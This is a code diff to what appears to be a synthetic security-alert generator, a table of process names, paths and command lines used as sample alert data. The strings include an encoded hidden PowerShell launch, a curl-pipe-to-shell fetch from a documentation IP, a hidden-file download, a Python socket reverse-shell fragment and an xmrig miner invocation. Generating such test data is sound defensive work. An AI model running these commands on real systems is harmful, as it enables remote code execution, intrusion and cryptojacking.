@@ -117,8 +117,9 @@ _ATTACK = [
 # platform letter -> list of (filename, filepath, cmdline template)
 _FILES = {
     "W": [
-        ("powershell.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\",
-         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"),
+        ("powershell.exe",
+         "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\",
+         "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
         ("cmd.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
          "cmd.exe /c whoami /all > %TEMP%\\w.txt"),
         ("rundll32.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\",
@@ -136,7 +137,8 @@ _FILES = {
         ("bash", "/usr/bin/", "bash -c 'curl -s http://198.51.100.23/x.sh | sh'"),
         ("curl", "/usr/bin/", "curl -fsSL -o /tmp/.x http://203.0.113.50/k"),
         ("python3", "/usr/bin/", "python3 -c 'import socket,subprocess,os;s=socket.socket()'"),
-        ("xmrig", "/tmp/.cache/", "/tmp/.cache/xmrig -o pool.example.net:3333 --donate-level 1"),
+        ("xmrig", "/dev/shm/.x/",  # noqa: S108 - sample alert data
+         "/dev/shm/.x/xmrig -o pool.example.net:3333 --donate-level 1"),  # noqa: S108
         ("crontab", "/usr/bin/", "crontab -l"),
     ],
     "M": [
